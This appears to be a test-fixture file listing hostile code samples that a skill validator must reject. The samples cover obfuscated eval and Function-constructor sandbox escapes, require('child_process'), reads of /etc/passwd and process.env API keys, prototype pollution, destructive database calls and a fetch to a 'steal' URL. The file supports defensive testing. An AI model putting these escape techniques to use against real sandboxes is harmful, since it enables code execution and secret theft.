// Attack stories for the validator, written as data: what the attacker tries, in which spelling,
// and the rule that must refuse it. `code` is placed in a valid skill (top level or inside
// getData) unless `source` gives the whole module. Add a sample for every bypass you find.
import type { RuleId } from "../../../src/validator/index.js";
import type { Where } from "./skill-shell.js";

export interface HostileSample {
  category: string;
  technique: string;
  lang: "ts" | "js";
  where?: Where;
  code?: string;
  source?: string;
  rule: RuleId;
}

const m = (category: string, technique: string, rule: RuleId, code: string, lang: "ts" | "js" = "js"): HostileSample => ({
  category,
  technique,
  rule,
  code,
  lang,
  where: "method",
});
const top = (category: string, technique: string, rule: RuleId, code: string, lang: "ts" | "js" = "js"): HostileSample => ({
  category,
  technique,
  rule,
  code,
  lang,
  where: "top",
});

export const DYNAMIC_CODE: HostileSample[] = [
  m("dynamic-code", "plain eval", "dynamic-code", `eval("globalThis.x = 1");`),
  m("dynamic-code", "indirect eval (0, eval)", "dynamic-code", `(0, eval)("this");`),
  m("dynamic-code", "eval with a unicode-escaped identifier", "dynamic-code", `\\u0065val("1 + 1");`),
  m("dynamic-code", "eval through optional call", "dynamic-code", `eval?.("1");`),
  m("dynamic-code", "eval aliased through a variable", "dynamic-code", `const run = eval; run("1");`),
  m("dynamic-code", "Function constructor with new", "dynamic-code", `new Function("return 1")();`),
  m("dynamic-code", "Function called without new", "dynamic-code", `const f = Function("a", "return a"); f(1);`, "ts"),
  m("dynamic-code", "constructor of an arrow function", "dynamic-code", `(() => {}).constructor("return process")();`),
  m(
    "dynamic-code",
    "AsyncFunction via constructor of an async function",
    "dynamic-code",
    `const AsyncFunction = (async () => {}).constructor; await new AsyncFunction("return 1")();`,
  ),
  m(
    "dynamic-code",
    "GeneratorFunction via constructor",
    "dynamic-code",
    `const G = (function* () {}).constructor; G("yield 1")().next();`,
  ),
  m(
    "dynamic-code",
    "AsyncGeneratorFunction via constructor",
    "dynamic-code",
    `const AG = (async function* () {}).constructor; AG("yield 1");`,
  ),
  m(
    "dynamic-code",
    "constructor.constructor of a plain object",
    "dynamic-code",
    `({}).constructor.constructor("return this")();`,
  ),
  m(
    "dynamic-code",
    "computed literal key 'constructor' on an array method",
    "dynamic-code",
    `[]["filter"]["constructor"]("return 1")();`,
  ),
  m("dynamic-code", "optional chaining to constructor", "dynamic-code", `const F = notes?.map?.constructor; F?.("return 1");`),
  m(
    "dynamic-code",
    "destructured constructor from a function",
    "dynamic-code",
    `const { constructor: F } = () => 0; F("return 1")();`,
  ),
  m(
    "dynamic-code",
    "destructured constructor in a parameter",
    "dynamic-code",
    `const make = ({ constructor }) => constructor; make(() => 0)("return 1")();`,
  ),
  m(
    "dynamic-code",
    "constructor key built by concatenation",
    "dynamic-code",
    `const k = "constr" + "uctor"; (() => 0)[k][k]("return 1");`,
  ),
  m(
    "dynamic-code",
    "constructor key built by a template literal",
    "dynamic-code",
    "const part = \"struct\"; const k = `con${part}or`; (() => 0)[k]('x');",
  ),
  m(
    "dynamic-code",
    "constructor key from String.fromCharCode",
    "dynamic-code",
    `const k = String.fromCharCode(99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114); [].map[k]("return 1");`,
  ),
  m(
    "dynamic-code",
    "constructor key from fromCharCode over a spread array",
    "dynamic-code",
    `const codes = [99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114]; const k = String.fromCharCode(...codes); ({})[k];`,
  ),
  m(
    "dynamic-code",
    "constructor key from char codes mapped through an arrow",
    "dynamic-code",
    `const k = [100, 112, 111, 116, 117, 115, 118, 100, 117, 112, 115].map((c) => String.fromCharCode(c - 1)).join(""); (() => 0)[k];`,
  ),
  m(
    "dynamic-code",
    "constructor key reversed from a string",
    "dynamic-code",
    `const k = "rotcurtsnoc".split("").reverse().join(""); Math.max[k]("x");`,
  ),
  m(
    "dynamic-code",
    "constructor key from an array join",
    "dynamic-code",
    `const k = ["con", "struc", "tor"].join(""); notes.map[k]("x");`,
  ),
  m(
    "dynamic-code",
    "constructor key decoded with atob",
    "dynamic-code",
    `const k = atob("Y29uc3RydWN0b3I="); (() => 0)[k]("x");`,
  ),
  m(
    "dynamic-code",
    "constructor key decoded with JSON.parse of escapes",
    "dynamic-code",
    `const k = JSON.parse('"\\\\u0063onstructor"'); (() => 0)[k]("x");`,
  ),
  m(
    "dynamic-code",
    "constructor key decoded with decodeURIComponent",
    "dynamic-code",
    `const k = decodeURIComponent("%63onstructor"); (() => 0)[k]("x");`,
  ),
  m(
    "dynamic-code",
    "the string 'constructor' passed through a helper parameter",
    "dynamic-code",
    `const pick = (o, k) => o[k]; pick(pick(() => 0, "constructor"), "call");`,
  ),
  m(
    "dynamic-code",
    "Function reached through a closure that returns it",
    "dynamic-code",
    `const getCtor = () => (function () {}).constructor; getCtor()("return 1")();`,
    "ts",
  ),
  m("dynamic-code", "tagged template with the Function constructor", "dynamic-code", "Function`return 1`;"),
  m("dynamic-code", "Function.prototype.call.call", "dynamic-code", `Function.prototype.call.call(() => 0);`),
  m("dynamic-code", "bind on eval", "dynamic-code", `const e = eval.bind(null); e("1");`),
  m("dynamic-code", "unicode-escaped member constructor", "dynamic-code", `(() => 0).\\u0063onstructor("return 1")();`),
  m(
    "dynamic-code",
    "TS cast hiding the constructor chain",
    "dynamic-code",
    `const F = ((() => 0) as any).constructor as (src: string) => () => unknown; F("return 1")();`,
    "ts",
  ),
];

export const MODULE_LOADING: HostileSample[] = [
  m("module-loading", "require", "module-loading", `const fs = require("fs"); fs.readFileSync("/etc/passwd");`),
  m("module-loading", "require aliased", "module-loading", `const r = require; r("child_process");`),
  m("module-loading", "dynamic import", "module-loading", `const os = await import("os");`),
  m("module-loading", "import.meta", "module-loading", `const here = import.meta.url;`),
  top("module-loading", "static import statement", "contract-import", `import { readFileSync } from "node:fs";`, "ts"),
  top("module-loading", "namespace import", "contract-import", `import * as cp from "child_process";`),
  top("module-loading", "re-export from another module", "module-loading", `export * from "node:fs";`),
  top("module-loading", "TS import-equals require", "module-loading", `import fs = require("fs");`, "ts"),
  m("module-loading", "module.exports reach", "module-loading", `module.exports.x = 1;`),
];

export const HOST_ACCESS: HostileSample[] = [
  m("host-access", "process.env", "host-access", `const key = process.env.ANTHROPIC_API_KEY;`),
  m("host-access", "globalThis", "host-access", `const g = globalThis; g.x = 1;`),
  m("host-access", "globalThis with a computed eval key", "host-access", `globalThis["ev" + "al"]("1");`),
  m("host-access", "global (Node)", "host-access", `global.process.exit(1);`),
  m("host-access", "self", "host-access", `const s = self;`),
  m("host-access", "window", "host-access", `window.location.href;`),
  top("host-access", "top-level this", "host-access", `const root = this;`),
  top(
    "host-access",
    "this inside a plain function (sloppy global)",
    "host-access",
    `function getGlobal() { return this; }\nconst g = getGlobal();`,
  ),
  m("host-access", "this inside a nested function expression", "host-access", `const g = (function () { return this; })();`),
  top(
    "host-access",
    "declare const process to hide the global",
    "host-access",
    `declare const process: any;\nprocess.exit(0);`,
    "ts",
  ),
  m("host-access", "Buffer", "host-access", `const b = Buffer.from("x");`),
  m("host-access", "fetch (network)", "host-access", `await fetch("https://example.com/steal?d=1");`),
];

export const LANGUAGE_TRICKS: HostileSample[] = [
  m("with-statement", "with over an object", "with-statement", `with (notes) { length; }`),
  top("arguments-callee", "arguments.callee", "arguments-callee", `function who() { return arguments.callee; }`),
  top("arguments-callee", "fn.caller", "arguments-callee", `function up() { return up.caller; }`),
  m(
    "stack-trace-api",
    "Error.prepareStackTrace override",
    "stack-trace-api",
    `Error.prepareStackTrace = (_e, frames) => frames; const frames = new Error().stack;`,
  ),
  top("stack-trace-api", "Error.captureStackTrace", "stack-trace-api", `const holder = {}; Error.captureStackTrace(holder);`),
  m("reflection", "Proxy", "reflection", `const p = new Proxy({}, { get: () => 1 });`),
  m("reflection", "Reflect.construct", "reflection", `Reflect.construct(Array, []);`),
  m(
    "reflection",
    "Object.getPrototypeOf of an async function",
    "reflection",
    `const AsyncProto = Object.getPrototypeOf(async function () {}); AsyncProto;`,
  ),
  m(
    "reflection",
    "getOwnPropertyDescriptor on a builtin",
    "reflection",
    `const d = Object.getOwnPropertyDescriptor(Array, "from");`,
  ),
  m("webassembly", "WebAssembly.compile", "webassembly", `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109]));`),
  m("shared-memory", "SharedArrayBuffer", "shared-memory", `const sab = new SharedArrayBuffer(1024);`),
  m("shared-memory", "Atomics.wait", "shared-memory", `Atomics.wait(new Int32Array(4), 0, 0, 1000);`),
  top(
    "symbol-tricks",
    "Symbol.species on an Array subclass",
    "symbol-tricks",
    `class Evil extends Array { static get [Symbol.species]() { return Object; } }`,
  ),
  m(
    "symbol-tricks",
    "Symbol.toPrimitive coercion gadget",
    "symbol-tricks",
    `const key = { [Symbol.toPrimitive]: () => "x" }; ({})[key];`,
  ),
  m("symbol-tricks", "Symbol.for registry", "symbol-tricks", `const s = Symbol.for("shared");`),
  m("timers", "setTimeout", "timers", `setTimeout(() => {}, 10);`),
  m("debugger", "debugger statement", "debugger", `debugger;`),
  top("ambient-declaration", "namespace block", "ambient-declaration", `namespace Hidden { export const x = 1; }`, "ts"),
  m("unknown-global", "WeakRef (GC observation)", "unknown-global", `const w = new WeakRef({});`),
  m("unknown-global", "escape/unescape", "unknown-global", `const s = unescape("%41");`),
];

export const PROTOTYPE_MUTATION: HostileSample[] = [
  top(
    "prototype-mutation",
    "Array.prototype assignment",
    "prototype-mutation",
    `Array.prototype.sum = function () { return 1; };`,
  ),
  m("prototype-mutation", "Object.prototype via __proto__", "prototype-mutation", `const o = {}; o.__proto__.isAdmin = true;`),
  m("prototype-mutation", "__proto__ key in a literal", "prototype-mutation", `const o = { __proto__: notes }; o;`),
  m("prototype-mutation", "Object.setPrototypeOf", "prototype-mutation", `Object.setPrototypeOf(notes, null);`),
  m(
    "prototype-mutation",
    "Object.defineProperty getter on a builtin",
    "prototype-mutation",
    `Object.defineProperty(Math, "max", { get() { return () => 0; } });`,
  ),
  m("prototype-mutation", "__defineGetter__", "prototype-mutation", `notes.__defineGetter__("length", () => 0);`),
  m(
    "prototype-mutation",
    "Object.assign onto a prototype",
    "prototype-mutation",
    `Object.assign(Object.prototype, { polluted: 1 });`,
  ),
  m("builtin-mutation", "overwrite a builtin method", "builtin-mutation", `JSON.parse = (s) => s;`),
  m(
    "builtin-mutation",
    "Object.assign onto a builtin namespace",
    "builtin-mutation",
    `Object.assign(Math, { random: () => 4 });`,
  ),
  m("builtin-mutation", "delete a builtin member", "builtin-mutation", `delete Math.max;`),
  m("builtin-mutation", "override console.log", "builtin-mutation", `console.log = () => {};`),
  m(
    "prototype-mutation",
    "prototype reached by a computed key",
    "prototype-mutation",
    `const k = "proto" + "type"; Array[k].x = 1;`,
  ),
];

export const COMPUTED_MEMBERS: HostileSample[] = [
  top(
    "computed-member",
    "a lookup helper applied twice hides the fn[k][k] chain",
    "computed-member",
    `function get(o, k) { return o[k]; }\nexport const run = (k, code) => get(get(() => 0, k), k)(code)();`,
  ),
  top(
    "computed-member",
    "the lookup helper's arguments spread from an array hide the fn[k][k] chain",
    "computed-member",
    `function get(o, k) { return o[k]; }\nexport const run = (k, code) => get(...[get(...[() => 0, k]), k])(code)();`,
  ),
  m(
    "computed-member",
    "a reduce over data-chosen keys walks to the constructor",
    "computed-member",
    `const F = ctx.config.path.reduce((o, k) => o[k], () => 0); F(ctx.config.code)();`,
  ),
  m(
    "computed-member",
    "a promise carries one hop into a then callback that takes the second",
    "computed-member",
    `const k = ctx.config.k; const o = {}; await Promise.resolve(o[k]).then((f) => f[k](ctx.config.code)());`,
  ),
  m(
    "computed-member",
    "a promise held in a variable carries the hop into its callback",
    "computed-member",
    `const k = ctx.config.k; const p = Promise.resolve(notes[k]); await p.then((f) => f[k](ctx.config.code)());`,
  ),
  m(
    "computed-member",
    "a promise executor resolves with one hop, the then callback takes the second",
    "computed-member",
    `const k = ctx.config.k; await new Promise((r) => r(notes[k])).then((f) => f[k](ctx.config.code)());`,
  ),
  m(
    "computed-member",
    "an array literal carries one hop into a map callback",
    "computed-member",
    `const k = ctx.config.k; [notes[k]].map((f) => f[k](ctx.config.code)());`,
    "ts",
  ),
  m(
    "computed-member",
    "an Array.from mapper receives the first hop",
    "computed-member",
    `const k = ctx.config.k; Array.from([notes[k]], (f) => f[k](ctx.config.code));`,
  ),
  m(
    "computed-member",
    "an immediately invoked arrow takes the first hop as its argument",
    "computed-member",
    `const k = ctx.config.k; ((f) => f[k](ctx.config.code)())(notes[k]);`,
  ),
  m(
    "computed-member",
    "a destructured callback parameter takes the first hop",
    "computed-member",
    `const k = ctx.config.k; [[notes[k]]].forEach(([f]) => f[k](ctx.config.code)());`,
  ),
  m(
    "computed-member",
    "a for-of loop variable takes the first hop from the array it walks",
    "computed-member",
    `const k = ctx.config.k; for (const f of [notes[k]]) f[k](ctx.config.code)();`,
  ),
  m(
    "computed-member",
    "a local generator yields the first hop into a for-of loop",
    "computed-member",
    `const k = ctx.config.k; function* hop() { yield notes[k]; } for (const f of hop()) f[k](ctx.config.code)();`,
    "ts",
  ),
  m(
    "computed-member",
    "twenty arrays wrapped around the first hop to outrun the analysis",
    "computed-member",
    `const k = ctx.config.k; const a0 = notes[k]; ${Array.from({ length: 20 }, (_, i) => `const a${i + 1} = [a${i}];`).join(" ")} for (const f of a20) f[k](ctx.config.code)();`,
  ),
  m(
    "computed-member",
    "the first hop stored in an object field",
    "computed-member",
    `const k = ctx.config.k; const box = {}; box.f = notes[k]; box.f[k](ctx.config.code)();`,
  ),
  m(
    "computed-member",
    "the first hop pushed into a list",
    "computed-member",
    `const k = ctx.config.k; const list = []; list.push(notes[k]); list[0][k](ctx.config.code)();`,
  ),
  m(
    "computed-member",
    "the first hop kept in a Map",
    "computed-member",
    `const k = ctx.config.k; const m = new Map(); m.set("f", notes[k]); m.get("f")[k](ctx.config.code)();`,
    "ts",
  ),
  m(
    "computed-member",
    "the first hop kept in a Set built from it",
    "computed-member",
    `const k = ctx.config.k; for (const f of new Set([notes[k]])) f[k](ctx.config.code)();`,
  ),
  {
    category: "computed-member",
    technique: "the first hop parked in a class field by one method, the second taken in another",
    rule: "computed-member",
    lang: "ts",
    source: `export default class {
  slug = "custom-parked";
  held: any = null;
  park(k: string) { const o: any = {}; this.held = o[k]; }
  getActions() { return []; }
  async executeAction() { return null; }
  async getData(ctx: any) { const k = ctx.config.k; this.park(k); return this.held[k](ctx.config.code)(); }
  async getInsights() { return []; }
}`,
  },
  m(
    "computed-member",
    "a dynamic key on a function held in an object literal",
    "computed-member",
    `const tools = { f: () => 0 }; const F = tools.f[ctx.config.k]; F(ctx.config.code)();`,
  ),
  m(
    "computed-member",
    "a dynamic key on a function held in an array literal",
    "computed-member",
    `const fns = [() => 0]; const F = fns[0][ctx.config.k]; F(ctx.config.code)();`,
    "ts",
  ),
  m(
    "computed-member",
    "dynamic key on a function",
    "computed-member",
    `const key = notes.length ? "call" : "apply"; const f = () => 0; f[key];`,
  ),
  m(
    "computed-member",
    "two dynamic keys on this, then a call",
    "computed-member",
    `const k = String(ctx.tenantId); this[k][k]("return 1");`,
  ),
  m(
    "computed-member",
    "dynamic key on a builtin namespace",
    "computed-member",
    `const op = ctx.config.op; Math[op](1, 2);`,
    "ts",
  ),
  m("computed-member", "dynamic key on a builtin method", "computed-member", `const k = ctx.config.k; notes.map[k];`),
  m(
    "computed-member",
    "two dynamic lookups then a call",
    "computed-member",
    `const a = ctx.config.a; const b = ctx.config.b; const o = {}; o[a][b]("return 1")();`,
  ),
  m(
    "computed-member",
    "two dynamic lookups through variables",
    "computed-member",
    `const a = ctx.config.a, b = ctx.config.b; const C = notes[a]; const F = C[b]; F("code");`,
  ),
  m(
    "computed-member",
    "dynamic lookups hidden in a helper's return",
    "computed-member",
    `const a = ctx.config.a; const get = (o) => o[a][a]; get({})("code");`,
  ),
  m(
    "computed-member",
    "three dynamic lookups in a chain",
    "computed-member",
    `const k = ctx.config.k; const x = notes[k][k][k];`,
  ),
  m(
    "computed-member",
    "object-literal key with a toString hook",
    "computed-member",
    `const k = { toString: () => ctx.config.k }; notes[k];`,
  ),
  m(
    "computed-member",
    "split-up constructor with a runtime part",
    "computed-member",
    `const tail = ctx.config.t; notes["constr" + tail];`,
  ),
  m(
    "computed-member",
    "dynamic key on arguments",
    "computed-member",
    `function f() { const k = ctx.config.k; return arguments[k]; } f();`,
  ),
  m("computed-member", "dynamic key on a string literal", "computed-member", `const k = ctx.config.k; ""[k];`),
  m("computed-member", "dynamic destructuring key", "computed-member", `const k = ctx.config.k; const { [k]: v } = notes;`),
];

export const DB_MISUSE: HostileSample[] = [
  m("db", "db aliased to a variable", "db-escape", `const store = db; await store.from("notes").select();`),
  m("db", "db passed to a helper", "db-escape", `const run = (d) => d.from("secrets").select(); await run(db);`),
  m("db", "db destructured", "db-escape", `const { from } = db; from("notes");`),
  m("db", "db stored on an object", "db-escape", `const holder = { db }; holder.db.from("notes").select();`),
  m("db", "db returned from a closure", "db-escape", `const getDb = () => db; getDb().from("notes").select();`),
  m("db", "db.from called with (0, db.from)", "db-escape", `(0, db.from)("notes").select();`),
  m("db", "db.from bound", "db-escape", `const from = db.from.bind(db); from("notes");`),
  m("db", "db reached through a computed member", "db-computed", `const op = "from"; db[op]("notes").select();`),
  m("db", "db.delete (outside the contract)", "db-method", `await db.from("notes").delete().eq("id", 1);`),
  m("db", "db.rpc", "db-method", `await db.rpc("drop_everything");`),
  m("db", "db.raw SQL", "db-method", `await db.raw("DELETE FROM records");`),
  m("db", "upsert on the builder", "db-method", `await db.from("notes").upsert({ text: "x" });`),
  m("db", "unknown chain method after select", "db-method", `await db.from("notes").select().single();`),
  m("db", "collection from a variable", "db-collection", `const c = ctx.config.collection; await db.from(c).select();`, "ts"),
  m("db", "collection built at run time", "db-collection", `await db.from("no" + ctx.tenantId).select();`),
  m("db", "collection from a helper parameter", "db-collection", `const read = (c) => db.from(c).select(); await read("notes");`),
  m("db", "collection name outside the pattern", "db-collection-name", `await db.from("../other_skill").select();`),
  m("db", "collection name with upper case", "db-collection-name", `await db.from("Users").select();`),
  m("db", "db shadowed by a parameter", "db-shadowed", `const q = (db) => db.from("notes"); q({ from: () => 0 });`),
  m("db", "builder stored then passed away", "db-escape", `const table = db.from("notes"); const leak = [table];`),
  m("db", "db assigned", "db-escape", `db = null;`),
];

export const CONTRACT: HostileSample[] = [
  {
    category: "contract",
    technique: "no default export",
    lang: "js",
    rule: "contract-export",
    source: `const skill = { slug: "custom-x" };\n`,
  },
  {
    category: "contract",
    technique: "named value export besides the default",
    lang: "ts",
    rule: "contract-export",
    code: `export const leak = 1;`,
    where: "top",
  },
  {
    category: "contract",
    technique: "slug not custom-<kebab>",
    lang: "js",
    rule: "contract-slug",
    source: `export default { slug: "water", getActions() { return []; }, async executeAction() { return {}; }, async getData() { return {}; }, async getInsights() { return []; } };`,
  },
  {
    category: "contract",
    technique: "slug computed at run time",
    lang: "js",
    rule: "contract-slug",
    source: `export default { slug: "custom-" + Date.now(), getActions() { return []; }, async executeAction() { return {}; }, async getData() { return {}; }, async getInsights() { return []; } };`,
  },
  {
    category: "contract",
    technique: "missing getInsights",
    lang: "js",
    rule: "contract-method",
    source: `export default { slug: "custom-x", getActions() { return []; }, async executeAction() { return {}; }, async getData() { return {}; } };`,
  },
  {
    category: "contract",
    technique: "getActions computed at run time",
    lang: "js",
    rule: "contract-actions",
    source: `export default { slug: "custom-x", getActions() { return [1, 2].map((i) => ({ slug: "a" + i })); }, async executeAction() { return {}; }, async getData() { return {}; }, async getInsights() { return []; } };`,
  },
  {
    category: "contract",
    technique: "params_schema that does not compile",
    lang: "js",
    rule: "contract-params-schema",
    source: `export default { slug: "custom-x", getActions() { return [{ slug: "a", name: "A", description: "A", params_schema: { type: "strnig" } }]; }, async executeAction() { return {}; }, async getData() { return {}; }, async getInsights() { return []; } };`,
  },
  {
    category: "contract",
    technique: "syntax error",
    lang: "ts",
    rule: "syntax",
    source: `export default { slug: "custom-x", getActions() { return [ };`,
  },
];

export const TYPESCRIPT_TRICKS: HostileSample[] = [
  top(
    "module-loading",
    "declare function require, then call it",
    "module-loading",
    `declare function require(id: string): any;\nconst cp = require("child_process");`,
    "ts",
  ),
  top("ambient-declaration", "declare global block", "ambient-declaration", `declare global { var secret: string }`, "ts"),
  top("contract", "export = instead of export default", "contract-export", `const x = 1;\nexport = x;`, "ts"),
  m("host-access", "non-null assertion on process", "host-access", `const env = process!.env as Record<string, string>;`, "ts"),
  m(
    "dynamic-code",
    "generic helper returning the constructor",
    "dynamic-code",
    `const ctorOf = <T extends object>(x: T) => (x as any)["constructor"]; ctorOf(() => 0)("return 1");`,
    "ts",
  ),
  m(
    "dynamic-code",
    "satisfies-wrapped constructor chain",
    "dynamic-code",
    `const F = ((async () => {}) satisfies unknown as any).constructor; await F("return 1")();`,
    "ts",
  ),
  top("host-access", "declare var global then use it", "host-access", `declare var global: any;\nglobal.x = 1;`, "ts"),
  m(
    "prototype-mutation",
    "as-cast to write on Object.prototype",
    "prototype-mutation",
    `(Object.prototype as any).pwned = true;`,
    "ts",
  ),
];

export const CAPABILITY_SMUGGLING: HostileSample[] = [
  {
    category: "db",
    technique: "collection field changed through an alias of this",
    lang: "js",
    rule: "db-collection",
    source: `export default class S { slug = "custom-x"; table = "notes";
  getActions() { return []; }
  async executeAction(ctx, a, p) { const self = this; self.table = p.target; return {}; }
  async getData() { return db.from(this.table).select(); }
  async getInsights() { return []; } }`,
  },
  {
    category: "db",
    technique: "collection field changed with Object.assign(this, …)",
    lang: "js",
    rule: "db-collection",
    source: `export default { slug: "custom-x", table: "notes",
  getActions() { return []; },
  async executeAction(ctx, a, p) { Object.assign(this, { table: p.target }); return {}; },
  async getData() { return db.from(this.table).select(); },
  async getInsights() { return []; } };`,
  },
  top(
    "db",
    "constant object mutated before use",
    "db-collection",
    `const T = { notes: "notes" };\nT.notes = "other";\nconst rows = db.from(T.notes).select();`,
  ),
];

export const HOSTILE_SAMPLES: HostileSample[] = [
  ...DYNAMIC_CODE,
  ...MODULE_LOADING,
  ...HOST_ACCESS,
  ...LANGUAGE_TRICKS,
  ...PROTOTYPE_MUTATION,
  ...COMPUTED_MEMBERS,
  ...DB_MISUSE,
  ...CONTRACT,
  ...TYPESCRIPT_TRICKS,
  ...CAPABILITY_SMUGGLING,
];
